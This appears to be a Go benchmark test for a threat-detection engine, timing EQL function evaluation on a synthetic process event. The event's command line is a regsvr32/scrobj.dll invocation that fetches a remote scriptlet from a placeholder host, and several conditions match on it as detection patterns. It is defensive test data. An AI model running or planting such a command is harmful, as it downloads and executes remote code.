package detect

import (
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/rule"
)

// BenchmarkFunctions is the cost of each EQL function of Elastic's
// function reference, evaluated as a condition on one event whose fields
// are its inputs: ns per evaluation, and allocations (0 expected: strings
// a function builds live in the evaluation's scratch).
func BenchmarkFunctions(b *testing.B) {
	e := ev{1, "process_exec", time.Second, 1, []any{
		"process.name", "regsvr32.exe", "process.parent.name", "explorer.exe", "process.pid", 4,
		"process.args_count", uint64(4), "file.path", `C:\Windows\System32\cmd.exe`,
		"process.command_line", "regsvr32.exe /s /u /i:http://example.com/x.sct scrobj.dll",
		"destination.ip", "10.1.2.3",
	}}.build(b)
	for _, c := range []struct{ name, cond string }{
		{"add", `add(process.args_count, process.pid) == 8`},
		{"between", `between(file.path, "System32\\", ".exe") == "cmd"`},
		{"between~", `between~(file.path, "system32\\", ".exe") == "cmd"`},
		{"cidrMatch", `cidrMatch(destination.ip, "192.168.0.0/16", "10.0.0.0/8")`},
		{"concat", `concat(process.name, " ", process.pid) == "regsvr32.exe 4"`},
		{"divide", `divide(process.args_count, 2) == 2`},
		{"endsWith", `endsWith(process.name, ".exe")`},
		{"endsWith~", `endsWith~(process.name, ".EXE")`},
		{"indexOf", `indexOf(process.command_line, "http") == 22`},
		{"indexOf~", `indexOf~(process.command_line, "HTTP") == 22`},
		{"length", `length(process.command_line) > 10`},
		{"modulo", `modulo(process.args_count, 3) == 1`},
		{"multiply", `multiply(process.args_count, 2) == 8`},
		{"number", `number("42") == 42`},
		{"startsWith", `startsWith(process.command_line, "regsvr32")`},
		{"startsWith~", `startsWith~(process.command_line, "REGSVR32")`},
		{"string", `string(process.pid) == "4"`},
		{"stringContains", `stringContains(process.command_line, "scrobj")`},
		{"stringContains~", `stringContains~(process.command_line, "SCROBJ")`},
		{"substring", `substring(process.name, 0, 8) == "regsvr32"`},
		{"subtract", `subtract(process.args_count, 1) == 3`},
		{"wildcard", `wildcard(process.command_line, "*scrobj*")`},
		{"nested", `endsWith~(substring(process.command_line, 0, indexOf(process.command_line, " ")), ".EXE")`},
	} {
		b.Run(c.name, func(b *testing.B) {
			d, err := New(Config{Output: &capture{}, Rules: []*rule.Package{pkg(b, c.name, "process where "+c.cond)}})
			if err != nil {
				b.Fatal(err)
			}
			st, sc := &d.rules[0].steps[0], &evalScratch{}
			if !st.pred(&e, sc) {
				b.Fatalf("%s: does not hold", c.cond)
			}
			b.ReportAllocs()
			for b.Loop() {
				st.pred(&e, sc)
			}
		})
	}
}
